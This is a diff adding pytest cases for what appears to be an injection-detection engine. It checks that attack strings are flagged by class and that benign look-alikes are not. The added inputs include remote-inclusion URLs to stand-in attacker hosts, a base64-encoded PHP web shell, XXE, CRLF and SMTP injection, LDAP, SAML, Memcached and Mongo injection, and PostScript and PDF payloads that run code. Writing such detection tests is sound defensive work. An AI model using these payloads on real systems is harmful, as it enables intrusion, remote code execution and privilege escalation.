@@ -647,6 +647,52 @@ def test_a_providers_embed_code(engine: DetectionEngine, value: str, flagged: bo
     assert engine.detect(value)["is_threat"] is flagged
 
 
+@pytest.mark.parametrize(
+    ("value", "named"),
+    [
+        ("http://attacker.example/shell.txt?", "path_traversal"),
+        ("//evil.example/c99.txt%3F", "path_traversal"),
+        ("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "path_traversal"),
+        ('<!DOCTYPE t [<!ENTITY % i SYSTEM "data://text/plain;base64,ZmlsZTovLy9ldGM=">%i;]>',
+         "xml"),
+        ('{"name":"holiday_photo.phtml","type":"image/jpeg","size":20480}', "file_upload"),
+        ("guest\n[2024-06-01T10:22:11Z] AUTH success user=admin ip=10.0.0.1", "crlf"),
+        ("Hi team\r\n.\r\nMAIL FROM:<ceo@corp.example>\r\nRCPT TO:<victim@example.com>",
+         "crlf"),
+        ("jdoe+ou=Administrators", "ldap"),
+        ("<saml:NameID>admin@corp.example<!---->.attacker.example</saml:NameID>", "xml"),
+        ('jdoe\r\nset session:jdoe 0 86400 16\r\n{"role":"admin"}\r\n', "nosql"),
+        ('{"name":"Bob","$set":{"isAdmin":true}}', "nosql"),
+        ("%!PS\nuserdict /setpagedevice undef\nmark /OutputFile (%pipe%id) currentdevice "
+         "putdevice", "file_upload"),
+        ("%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj",
+         "file_upload"),
+    ],
+)
+def test_inclusion_uploads_and_protocols_seen_in_unseen_sets(
+    engine: DetectionEngine, value: str, named: str
+) -> None:
+    """Shapes two independent unseen sets of session 12 both held: a remote inclusion cut short,
+    PHP's data:// stream (an XML entity's target is XXE), a script declared as an image, a
+    forged log, SMTP commands, a multi-valued RDN, a comment splitting a signed address, a
+    Memcached command, a Mongo update operator, and PostScript or PDF that run code."""
+    result = engine.detect(value)
+    assert result["is_threat"] and result["attack_class"] == named
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        'db.products.updateOne({ sku: "abc123" }, { $set: { qty: 50 } })',
+        "https://example.com/docs/page.html#section-2",
+        '{"name":"report.pdf","type":"application/pdf"}',
+        '<div v-if="show"><!----></div>',
+    ],
+)
+def test_shell_code_links_and_metadata_that_look_alike(engine: DetectionEngine, value: str) -> None:
+    assert not engine.detect(value)["is_threat"]
+
+
 def test_documentation_showing_a_template_sum_reads_as_prose(engine: DetectionEngine) -> None:
     value = ("Angular interpolation uses double curly braces, so {{ 1 + 1 }} renders as 2 in "
              "the view.")
